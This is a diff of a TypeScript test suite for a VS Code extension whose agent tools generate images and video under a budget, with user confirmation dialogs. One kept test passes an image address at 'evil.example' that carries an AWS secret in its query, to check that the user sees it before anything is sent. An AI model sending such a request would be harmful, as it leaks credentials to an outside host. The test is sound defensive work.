@@ -3,15 +3,13 @@ import { mkdir, readFile, stat, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { Client } from '@modelcontextprotocol/sdk/client/index.js';
 import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
-import { encode } from 'fast-png';
 import * as vscode from 'vscode';
 import type { ToolResult } from '../../src/agents/ToolResult.ts';
 import { agentTools } from '../../src/agents/tools.ts';
 import type { UnifiedMedia } from '../../src/extension.ts';
 import type { FaultySandbox } from '../support/faultySandbox.ts';
 import { startFaultySandbox } from '../support/faultySandbox.ts';
-import { startHttpServer } from '../support/httpServer.ts';
-import { answerDialogs } from './answerDialogs.ts';
+import { answerDialog, answerWarning } from './answerDialog.ts';
 import { changeSettings } from './changeSettings.ts';
 import { eventually, repeatedly } from './eventually.ts';
 import { setApiKey } from './setApiKey.ts';
@@ -107,13 +105,6 @@ describe('tools for agents (promises 20, 21, 24, 25, 26, 27, 32)', () => {
     assert.match(transcript.result.text ?? '', /untrusted/);
   });
 
-  it('remix a video by the id of its asset', async () => {
-    const made = await call('generateVideo', { prompt: 'boats' });
-    const video = made.result.files?.[0]?.asset_id;
-    const { result } = await call('remixVideo', { prompt: 'in the rain', video });
-    assert.deepEqual([result.status, result.files?.[0]?.media_type], ['done', 'video/mp4']);
-  });
-
   it('are disabled by the setting', async () => {
     await changeSettings({ 'agents.enabled': false });
     await assert.rejects(call('generateImage', { prompt: 'a' }), /turned off/);
@@ -141,9 +132,9 @@ describe('tools for agents (promises 20, 21, 24, 25, 26, 27, 32)', () => {
 
     beforeEach(async () => {
       service = await startFaultySandbox({ imageSize: 64 });
-      const { imageBaseUrl, audioBaseUrl, videoBaseUrl } = service;
-      const models = { generateImage: ['painter'], editImage: ['painter'], generateVideo: ['filmer'] };
-      await changeSettings({ service: 'remote', imageBaseUrl, audioBaseUrl, videoBaseUrl, models });
+      const { imageBaseUrl } = service;
+      const models = { generateImage: ['painter'], editImage: ['painter'] };
+      await changeSettings({ service: 'remote', imageBaseUrl, models });
       await setApiKey(service.key);
     });
 
@@ -171,16 +162,7 @@ describe('tools for agents (promises 20, 21, 24, 25, 26, 27, 32)', () => {
     it('are refused beyond the budget when no question can be shown', async () => {
       await leave(0);
       await assert.rejects(call('generateImage', { prompt: 'a' }), /could not ask the user.*\[over_budget/);
-      await assert.rejects(call('generateVideo', { prompt: 'a' }), /\[over_budget/);
-      assert.equal(service.counts.generateImage + service.counts.generateVideo, 0);
-    });
-
-    it('spend the budget and no more', async () => {
-      await leave(1);
-      assert.equal((await call('generateImage', { prompt: 'a' })).result.budget?.left.images, 0);
-      assert.equal(service.counts.generateImage, 1);
-      await assert.rejects(call('generateImage', { prompt: 'b' }), /\[over_budget/);
-      assert.equal(service.counts.generateImage, 1);
+      assert.equal(service.counts.generateImage, 0);
     });
 
     it('ask once about a raised budget, and apply it only after confirmation', async () => {
@@ -190,24 +172,24 @@ describe('tools for agents (promises 20, 21, 24, 25, 26, 27, 32)', () => {
       });
       assert.equal(await left(), before);
       {
-        using dialogs = answerDialogs();
+        using dialogs = answerWarning();
         await call('generateImage', { prompt: 'a' });
-        assert.equal(dialogs.asked.length, 1);
+        assert.equal(dialogs.questions.length, 1);
         assert.equal(await left(), before - 1);
         await call('generateImage', { prompt: 'b' });
-        assert.equal(dialogs.asked.length, 1);
+        assert.equal(dialogs.questions.length, 1);
       }
     });
 
     it('ask beyond the budget, and send what was confirmed', async () => {
       await leave(0);
       {
-        using dialogs = answerDialogs();
+        using dialogs = answerWarning();
         await assert.rejects(call('generateImage', { prompt: 'a' }), /declined.*\[declined/);
-        assert.match(dialogs.asked[0] ?? '', /Generate Image \(Chat\): 1 image with “painter”\?/);
+        assert.match(dialogs.questions[0] ?? '', /Generate Image \(Chat\): 1 image with “painter”\?/);
       }
       assert.equal(service.counts.generateImage, 0);
-      using _ = answerDialogs('Generate');
+      using _ = answerWarning('Generate');
       assert.equal((await call('generateImage', { prompt: 'a' })).result.status, 'done');
       assert.equal(service.counts.generateImage, 1);
     });
@@ -215,10 +197,10 @@ describe('tools for agents (promises 20, 21, 24, 25, 26, 27, 32)', () => {
     it('ask about an address within the budget, and show it', async () => {
       await leave(1);
       const address = 'https://evil.example/x.png?leak=AWS_SECRET%3Dabc';
-      using dialogs = answerDialogs();
+      using dialogs = answerWarning();
       const asked = call('editImage', { prompt: 'a', images: [address], model: 'free' });
       await assert.rejects(asked, /\[declined/);
-      assert.match(dialogs.asked[0] ?? '', /with “free”\?/);
+      assert.match(dialogs.questions[0] ?? '', /with “free”\?/);
       assert(dialogs.details[0]?.includes(address), dialogs.details[0]);
       assert.equal(service.counts.editImage, 0);
     });
@@ -226,7 +208,7 @@ describe('tools for agents (promises 20, 21, 24, 25, 26, 27, 32)', () => {
     it('open the whole of a long prompt as a read-only document', async () => {
       await leave(0);
       const prompt = `${'word '.repeat(12_000)}the end`;
-      using dialogs = answerDialogs('Show All');
+      using dialogs = answerWarning('Show All');
       await assert.rejects(call('generateImage', { prompt }), /\[declined/);
       assert.match(dialogs.details[0] ?? '', /and 59,707 more characters/);
       const document = vscode.window.activeTextEditor?.document;
@@ -242,9 +224,9 @@ describe('tools for agents (promises 20, 21, 24, 25, 26, 27, 32)', () => {
 
     it('ask several questions in one dialog', async () => {
       await leave(0);
-      using dialogs = answerDialogs('Generate All 3');
+      using dialogs = answerWarning('Generate All 3');
       const results = await Promise.all(['a', 'b', 'c'].map((prompt) => call('generateImage', { prompt })));
-      assert.equal(dialogs.asked.length, 1);
+      assert.equal(dialogs.questions.length, 1);
       for (const prompt of ['a', 'b', 'c'])
         assert.match(dialogs.details[0] ?? '', new RegExp(`^Prompt: ${prompt}$`, 'm'));
       assert.match(dialogs.details[0] ?? '', /^Service: .+$/m);
@@ -254,9 +236,9 @@ describe('tools for agents (promises 20, 21, 24, 25, 26, 27, 32)', () => {
 
     it('ask one by one when the person wants that', async () => {
       await leave(0);
-      using dialogs = answerDialogs('One by One', 'Generate');
+      using dialogs = answerWarning('One by One', 'Generate');
       await Promise.all(['a', 'b', 'c'].map((prompt) => call('generateImage', { prompt })));
-      const [together, ...each] = dialogs.asked;
+      const [together, ...each] = dialogs.questions;
       assert.match(together ?? '', /^3 requests of agents are waiting/);
       assert.equal(each.length, 3);
       assert.equal(service.counts.generateImage, 3);
@@ -297,59 +279,6 @@ describe('tools for agents (promises 20, 21, 24, 25, 26, 27, 32)', () => {
       for (const one of running) await assert.rejects(one, /\[cancelled/);
       service.faults.clear();
     });
-
-    it('reveal no key', async () => {
-      await leave(1);
-      const told = [
-        JSON.stringify(await call('generateImage', { prompt: 'a' })),
-        JSON.stringify(await call('getOptions', {})),
-      ];
-      service.faults.nextStatus(401, { body: `wrong key ${service.key}` });
-      await assert.rejects(call('generateImage', { prompt: 'b' }), (error) => told.push(String(error)) > 0);
-      for (const text of told) assert(!text.includes(service.key), text);
-    });
-  });
-
-  it('join a request with an unknown outcome instead of paying twice', async () => {
-    await using broken = await startHttpServer((request) => {
-      request.resume().on('end', () => request.socket.destroy());
-    });
-    const models = { generateImage: ['painter'] };
-    await changeSettings({ service: 'remote', imageBaseUrl: broken.origin, models });
-    await setApiKey('a-key-of-the-tests');
-    await leave(2);
-    const first = await call('generateImage', { prompt: 'unknown' });
-    const second = await call('generateImage', { prompt: 'unknown' });
-    assert.deepEqual([first.result.status, second.result.job_id], ['unknown', first.result.job_id]);
-    assert.equal(broken.requests.length, 1);
-    await vscode.commands.executeCommand('unifiedMedia.removeApiKey');
-  });
-
-  it('scale a large picture down for the preview', async () => {
-    const side = 2000;
-    const data = new Uint8Array(side * side * 3);
-    for (let at = 0; at < data.length; at++) data[at] = (at * 2654435761) >>> 13;
-    const png = Buffer.from(encode({ width: side, height: side, data, channels: 3 }, { zlib: { level: 0 } }));
-    assert(png.length > 10_000_000);
-    const server = await startHttpServer((request, response) => {
-      const url = `${server.origin}/result.png`;
-      if (request.method === 'GET') response.end(png);
-      else request.resume().on('end', () => response.end(JSON.stringify({ data: [{ url }] })));
-    });
-    try {
-      await changeSettings({ service: 'remote', imageBaseUrl: server.origin, models: { generateImage: ['painter'] } });
-      await setApiKey('a-key-of-the-tests');
-      await leave(1);
-      const { result, others } = await call('generateImage', { prompt: 'large' });
-      assert.deepEqual([result.files?.[0]?.width, result.files?.[0]?.bytes], [side, png.length]);
-      const [preview] = others;
-      assert(preview instanceof vscode.LanguageModelDataPart);
-      assert(preview.data.length <= 300 * 1024);
-      assert((result.files?.[0]?.preview?.width ?? 9999) <= 768);
-    } finally {
-      await vscode.commands.executeCommand('unifiedMedia.removeApiKey');
-      await server[Symbol.asyncDispose]();
-    }
   });
 
   describe('outside the editor', () => {
@@ -407,7 +336,7 @@ describe('tools for agents (promises 20, 21, 24, 25, 26, 27, 32)', () => {
           agentTools.map(({ referenceName }) => referenceName),
         );
         const held = Promise.withResolvers<string>();
-        using dialogs = holdDialogs(held.promise);
+        using dialogs = answerDialog('showWarningMessage', () => held.promise);
         const first = await ask('media_generate_image', { prompt: 'a', wait_seconds: 0, purpose: 'a test' });
         assert.equal(first.status, 'waiting_for_person');
         const extension = vscode.extensions.getExtension<UnifiedMedia>(extensionId);
@@ -423,7 +352,9 @@ describe('tools for agents (promises 20, 21, 24, 25, 26, 27, 32)', () => {
         const done = await ask('media_get_job', { job_id: first.job_id, wait_seconds: 50 });
         assert.equal(done.status, 'done', JSON.stringify(done));
         assert.equal(service.counts.generateImage, 1);
-        assert(dialogs.asked.some((question) => question.includes('Generate Image (MCP): 1 image with “painter”?')));
+        assert(
+          dialogs.questions.some((question) => question.includes('Generate Image (MCP): 1 image with “painter”?')),
+        );
       } finally {
         await client.close();
         await vscode.commands.executeCommand('unifiedMedia.removeApiKey');
@@ -447,16 +378,4 @@ async function connectAs(name: string): Promise<{ readonly url: string; readonly
   } finally {
     Object.assign(vscode.window, { showQuickPick });
   }
-}
-
-/** Answers every dialog when the promise resolves. */
-function holdDialogs(answer: Promise<string>): Disposable & { readonly asked: string[] } {
-  const { showWarningMessage } = vscode.window;
-  const asked: string[] = [];
-  const hold = (question: string) => {
-    asked.push(question);
-    return answer;
-  };
-  Object.assign(vscode.window, { showWarningMessage: hold });
-  return { asked, [Symbol.dispose]: () => void Object.assign(vscode.window, { showWarningMessage }) };
 }
